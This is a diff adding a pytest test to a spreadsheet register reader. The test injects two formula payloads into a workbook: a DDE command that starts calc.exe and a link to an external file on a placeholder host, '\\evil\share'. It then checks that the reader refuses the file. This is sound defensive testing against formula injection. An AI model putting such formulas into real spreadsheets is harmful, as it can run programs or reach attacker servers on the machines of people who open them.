@@ -389,6 +389,18 @@ def test_a_formula_whose_result_was_not_saved_is_named_and_not_read_as_blank(tmp
     )
 
 
+@pytest.mark.parametrize("formula", ["=cmd|'/c calc.exe'!A0", r"='\\evil\share\[x.xlsx]S'!A1"])
+def test_nobody_is_told_to_open_a_register_whose_formula_reaches_out_of_it(tmp_path, formula):
+    path = tmp_path / "register.xlsx"
+    write_register(clean_plan().register(), path)
+    book = openpyxl.load_workbook(path)
+    book["indicators"]["C2"] = formula
+    book.save(path)
+    with pytest.raises(RegisterError, match="start a program, call a server or lead to another file") as refused:
+        read_register(path)
+    assert "(C2)" in str(refused.value) and "open it in" not in str(refused.value)
+
+
 def test_a_formula_with_a_saved_result_is_read_also_if_that_is_an_empty_text(tmp_path):
     path = tmp_path / "register.xlsx"
     with xlsxwriter.Workbook(path) as book:
